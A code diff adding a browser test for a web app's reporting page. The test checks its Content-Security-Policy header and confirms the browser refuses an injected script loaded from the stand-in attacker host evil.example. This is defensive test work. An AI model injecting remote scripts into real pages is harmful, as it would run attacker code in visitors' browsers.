@@ -55,3 +55,24 @@ test("the home page says what not to report and gives the emergency number", asy
   await expect(page.locator('main a[href="tel:19"]')).toBeVisible();
   await expect(page.getByRole("link", { name: messages.ar.home.ctaTrack })).toHaveAttribute("href", "/ar/track");
 });
+
+test("pages say where their scripts, styles, images and requests may come from: this origin only", async ({ browser }) => {
+  // Its own page: the shared fixture fails a test on any violation, and this one makes one.
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  const response = await page.goto("/ar/report");
+  const csp = response?.headers()["content-security-policy"] ?? "";
+  expect(csp).toContain("default-src 'self'");
+  expect(csp).toContain("connect-src 'self'");
+  expect(csp).toContain("frame-ancestors 'none'");
+  expect(csp).not.toContain("unsafe-eval");
+  // A script from elsewhere, as injected markup would try to load, is refused by the browser.
+  const refused = page.waitForEvent("console", (m) => /Content Security Policy/i.test(m.text()));
+  await page.evaluate(() => {
+    const s = document.createElement("script");
+    s.src = "https://evil.example/x.js";
+    document.head.append(s);
+  });
+  expect((await refused).text()).toContain("evil.example");
+  await context.close();
+});
